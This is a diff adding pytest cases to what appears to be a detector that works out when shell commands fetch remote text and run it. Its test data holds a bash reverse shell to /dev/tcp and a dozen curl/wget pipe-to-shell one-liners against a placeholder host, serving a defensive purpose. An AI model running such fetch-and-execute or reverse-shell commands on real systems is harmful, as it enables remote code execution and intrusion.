@@ -156,6 +156,41 @@ def test_an_interpreters_orders_and_sockets_are_kept() -> None:
     assert one("H=10.0.0.1\nbash -i >& /dev/tcp/$H/9 0>&1", "bash").sockets == ((">&", "/dev/tcp/10.0.0.1/9"),)
 
 
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("curl -fsSL https://a.example/x | sh", "sh"),
+        ("wget -qO- https://a.example/x | sudo bash -s -- --yes", "bash"),
+        ("wget -O - https://a.example/x | base64 -d | sh", "sh"),
+        ("curl https://a.example/x | tee /opt/x.sh | bash", "bash"),
+        ("curl -fsSLo - https://a.example/x | env A=1 python3 -", "python3"),
+        ("bash <(curl -s https://a.example/x)", "bash"),
+        (". <(curl https://a.example/x)", "."),
+        ('sh -c "$(curl -fsSL https://a.example/x)"', "sh"),
+        ('eval "$(wget -qO- https://a.example/x)"', "eval"),
+        ('python3 -c "$(curl https://a.example/x)"', "python3"),
+        ("su -c 'curl https://a.example/x | sh' user", "sh"),
+    ],
+)
+def test_what_reads_fetched_text_says_from_where(text: str, name: str) -> None:
+    assert one(text, name).fetched == "https://a.example/x"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -o x https://a.example/x | sh",
+        "curl -fsSLO https://a.example/x | sh",
+        "wget https://a.example/x | sh",
+        "curl https://a.example/x > x; sh x",
+        "A=$(curl https://a.example/x); sh -c 'echo a' | sh",
+        'sh -c "echo $(curl https://a.example/x)"',
+    ],
+)
+def test_what_is_kept_in_a_file_is_read_by_nobody(text: str) -> None:
+    assert not any(c.fetched for c in read(text).commands if c.name == "sh")
+
+
 def test_a_mistake_in_the_text_hides_nothing() -> None:
     text = "ssh a\nif then fi (((\nssh b\necho 'never closed\nssh c\n"
 
